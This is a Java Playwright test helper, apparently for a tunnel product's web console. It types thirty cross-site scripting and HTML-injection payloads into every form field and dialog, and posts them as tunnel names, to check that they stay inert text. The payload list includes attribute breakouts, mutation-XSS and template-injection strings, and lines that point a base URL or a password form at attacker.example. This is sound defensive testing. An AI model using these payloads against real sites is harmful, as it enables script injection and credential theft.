package org.nettunnel.browser;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import org.nettunnel.system.process.ProductNode;

/// Thirty texts that become scripts where somebody makes markup, an attribute, a style or an address of them.
final class Hostile {
    static final List<String> TEXTS = List.of(
            "<script>window.pwned=1</script>",
            "<img src=x onerror=window.pwned=1>",
            "<svg onload=window.pwned=1>",
            "<svg><script>window.pwned=1</script></svg>",
            "\"><script>window.pwned=1</script>",
            "'><img src=x onerror=window.pwned=1>",
            "\" onmouseover=\"window.pwned=1\" x=\"",
            "' onfocus='window.pwned=1' autofocus='",
            "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
            "javascript:window.pwned=1",
            "<a href=\"javascript:window.pwned=1\">x</a>",
            "<body onload=window.pwned=1>",
            "<details open ontoggle=window.pwned=1>",
            "<input autofocus onfocus=window.pwned=1>",
            "<video><source onerror=window.pwned=1></video>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
            "<style>@import 'data:text/css,*{background:red}'</style>",
            "<link rel=stylesheet href=data:text/css,*{display:none}>",
            "<meta http-equiv=refresh content=\"0;url=javascript:window.pwned=1\">",
            "<base href=//attacker.example/>",
            "<form action=//attacker.example/><input name=password>",
            "<object data=\"data:text/html,<script>parent.pwned=1</script>\"></object>",
            "<embed src=\"javascript:window.pwned=1\">",
            "</title><script>window.pwned=1</script>",
            "</textarea><script>window.pwned=1</script>",
            "-->\"'/><sVg/oNloAd=window.pwned=1//>",
            "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
            "\\u003cimg src=x onerror=window.pwned=1\\u003e&lt;script&gt;window.pwned=1&lt;/script&gt;",
            "\u202e<img/src=`x`onerror=window.pwned=1>\u0000");

    /// Buttons that open a dialog, and leave the node running.
    private static final List<String> OPENERS = List.of("Create tunnel", "Add inbound", "Add outbound", "Add user", "New token", "Add site", "Change password…");

    private Hostile() {
    }

    /// Into each text field of the screen, and of the dialogs that it opens, which are then sent: refused or not, it must stay text.
    ///
    /// @return how many fields there were
    static int typeEverywhere(Console console, List<String> texts) {
        int fields = fillAll(console.page(), texts, "main");
        for (String opener : openers(console.page())) {
            Locator button = console.page().locator("main").getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName(opener).setExact(true)).first();
            if (button.count() == 0 || !button.isEnabled()) continue;
            button.click();
            console.page().locator("dialog[open]").waitFor();
            fields += fillAll(console.page(), texts, "dialog[open]");
            Locator first = console.page().locator("dialog[open] footer .first");
            if (first.count() > 0) {
                first.last().click();
                console.settle();
            }
            console.closeDialogs();
        }
        return fields;
    }

    /// Makes tunnels that are called so; a name that no node takes cannot be shown.
    ///
    /// @return how many were taken
    static int nameTunnels(ProductNode node, List<String> texts) throws InterruptedException {
        int taken = 0;
        for (String text : texts) {
            try {
                node.api().post("/invites", Map.of("name", text, "addresses", List.of("127.0.0.1:1")));
                taken++;
            } catch (IOException | AssertionError refused) {
                // so be it
            }
        }
        return taken;
    }

    private static List<String> openers(Page page) {
        var names = new ArrayList<String>();
        for (Locator button : page.locator("main .screen header button, main .card > header button").all())
            if (OPENERS.contains(button.textContent())) names.add(button.textContent());
        return names;
    }

    private static int fillAll(Page page, List<String> texts, String where) {
        List<Locator> fields = page.locator(where + " :is(input:not([type]), input[type=text], input[type=search], input[type=password], textarea):visible:enabled").all();
        for (Locator field : fields) {
            for (String text : texts) field.fill(text.replace("\u0000", ""));
            if (where.equals("main")) field.fill(""); // a search hides what it does not find
        }
        return fields.size();
    }
}
